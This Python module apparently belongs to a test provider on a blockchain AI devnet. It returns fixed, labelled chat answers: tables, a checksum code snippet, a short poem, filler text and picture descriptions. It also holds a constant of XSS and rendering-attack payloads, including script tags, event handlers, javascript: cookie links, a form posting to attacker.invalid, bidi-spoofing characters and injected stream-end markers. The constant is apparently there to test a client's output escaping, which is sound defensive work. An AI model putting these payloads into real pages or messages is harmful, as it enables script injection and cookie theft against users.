"""What the devnet's chat models say: deterministic text, pleasant to look at, labelled."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Sequence
from dataclasses import dataclass
from itertools import cycle, islice

from devnet.providers import lengths, seeing, tokens
from devnet.providers.lengths import SENTENCES
from devnet.providers.seeing import Seen

LABEL = "*Devnet answer: fixed text from a test provider, not from a model.*"
_LOOKED = "*Devnet answer: measured from the bytes that arrived, not seen by a model.*"
HOSTILE = """# <script>alert("devnet")</script>

<script>document.body.textContent = "taken over"</script>
<img src=x onerror="document.body.textContent='taken over'">
<svg onload=alert(1)><iframe src="javascript:alert(1)"></iframe>
<style>body{display:none}</style><form action="https://attacker.invalid"><input name=p></form>

[click me](javascript:alert(document.cookie)) and [me](data:text/html;base64,PHNjcmlwdD4=)
![pixel](https://attacker.invalid/pixel.png) <a href=" java&#115;cript:alert(1)">or me</a>

Text that lies about its direction: \u202etxt.exe\u202c, zero\u200bwidth, \u2066isolate\u2069.

```html
</code></pre><script>alert("out of the code block")</script>
```

| a | b |
| --- | --- |
| <b onclick=alert(1)>cell</b> | `</td><script>alert(2)</script>` |

data: [DONE]

event: close
"""

_MAX_WORDS = 20_000
_REASONING = (
    "The person wrote: “{question}”. ",
    "First I look for words that I know: table, code, poem, or a number of words. ",
    "{finding} ",
    "I keep the answer short, label it as devnet text, and stop.",
)


@dataclass(frozen=True, slots=True)
class Answer:
    """The text of an answer, and the reasoning shown before it (empty for most models)."""

    text: str
    reasoning: str = ""


def compose(
    question: str,
    *,
    model: str,
    reasons: bool = False,
    pictures: Sequence[Seen] = (),
    earlier: Sequence[Seen] = (),
) -> Answer:
    """Return the answer to `question`; the same question always gets the same answer.

    It speaks of the question's `pictures`, else names the `earlier` ones of the conversation.
    """
    if not pictures and (sized := lengths.wanted(question.lower())):
        return _sized(*sized, reasons=reasons)
    kind, text = _choose(question, model)
    if pictures:
        kind, text = "A picture came with it.", _seen(question, list(pictures))
    elif earlier:
        text += f"\n### Pictures sent before\n\n{seeing.describe(list(earlier))}\n"
    return Answer(text, _reasoning(question, kind) if reasons else "")


def _sized(size: int, kind: str, *, reasons: bool) -> Answer:
    """As many tokens as were asked for; a tenth of them is reasoning, where the model reasons."""
    thought = size // 10 if reasons else 0
    label = f"{LABEL}\n\n"
    labelled = label + lengths.text(kind, max(0, size - thought - len(tokens.split(label))))
    return Answer(labelled, lengths.reasoning(thought))


def _choose(question: str, model: str) -> tuple[str, str]:
    lowered = question.lower()
    words = _wanted_words(lowered)
    if words:
        return f"{words} words are wanted.", _long(words)
    if re.search(r"\b(poem|verse|haiku|gedicht)\b", lowered):
        return "A poem is wanted.", _poem(question)
    if re.search(r"\btable\b", lowered):
        return "A table is wanted.", _table()
    if re.search(r"\b(code|function|program|python|script)\b", lowered):
        return "Code is wanted.", _code()
    return "None of them is there, so this is an ordinary question.", _ordinary(question, model)


def _wanted_words(question: str) -> int:
    """How many words a long answer shall have; 0 where no long one is asked for."""
    number = re.search(r"\b(\d{1,6})[\s-]+words?\b", question)
    if number:
        return min(max(int(number[1]), 1), _MAX_WORDS)
    return 600 if re.search(r"\b(long|essay|story)\b", question) else 0


def _reasoning(question: str, finding: str) -> str:
    shown = _quoted(question, 120)
    return "".join(part.format(question=shown, finding=finding) for part in _REASONING)


def _ordinary(question: str, model: str) -> str:
    return f"""## You asked

> {_quoted(question, 300)}

{LABEL}

Here is what `{model}` did with it:

1. **Read** the {len(question.split())} words of your question.
2. **Checked** your session, your reserve and the provider's limits.
3. **Signed** the bytes of this answer with the provider's devnet key.

| Step | Who does it | Proof |
| :--- | :--- | ---: |
| session | your wallet | signature |
| answer | test provider | SHA-256 |
| payment | contract | event |

```python
def fee(prompt_tokens: int, completion_tokens: int) -> int:
    \"\"\"Neuron, exactly: no floats between you and your money.\"\"\"
    return prompt_tokens * INPUT_PRICE + completion_tokens * OUTPUT_PRICE
```

Unicode arrives whole: Grüße, 你好, Привет, ½ ≤ ⅔, 🜁. Ask for a *table*, *code*, a *poem*, or
“300 words” to see more.
"""


def _seen(question: str, pictures: list[Seen]) -> str:
    return f"""## What I see

> {_quoted(question, 300)}

{_LOOKED}

{seeing.describe(pictures)}
"""


def _table() -> str:
    return f"""## A table, as asked

{LABEL}

| Amount (0G) | Neuron | Meaning |
| ---: | ---: | :--- |
| 1 | 1000000000000000000 | the reserve a provider keeps |
| 0.004 | 4000000000000000 | the smallest fee worth settling |
| 0.000001 | 1000000000000 | about two tokens of an answer |

The columns on the left are aligned to the right, so that the digits line up.
"""


def _code() -> str:
    return f"""## Some code, as asked

{LABEL}

```python
from hashlib import sha256


def matches(signed_text: str, received: bytes) -> bool:
    \"\"\"Tell whether the signed text speaks of exactly these bytes.\"\"\"
    return signed_text.split(":")[1] == sha256(received).hexdigest()
```

And the same question in a shell:

```sh
printf '%s' "$ANSWER" | sha256sum   # <-- compare with the part after the colon
```

Inline code looks `like <this> & that`.
"""


def _poem(question: str) -> str:
    return f"""### {_quoted(question, 60)}

The block arrives, the ledger turns a page,
a key signs what the quiet server said;
you count the bytes, and neither trust nor wage
is owed to words you have not checked and read.

*{LABEL.strip("*")}*
"""


def _long(words: int) -> str:
    """Text of exactly `words` words after the label, in paragraphs."""
    stream = list(islice(cycle(" ".join(SENTENCES).split()), words))
    paragraphs = [" ".join(stream[start : start + 70]) for start in range(0, words, 70)]
    return f"{LABEL}\n\n" + "\n\n".join(paragraphs) + "\n"


def _quoted(question: str, longest: int) -> str:
    line = " ".join(question.split()) or "(nothing)"
    return line if len(line) <= longest else line[: longest - 1] + "…"


def huge(megabytes: int) -> list[str]:
    """Pieces of 64 KB that make an answer of `megabytes`."""
    piece = (hashlib.sha256(b"huge").hexdigest() + " ") * 1008
    return [piece] * (megabytes * 16)
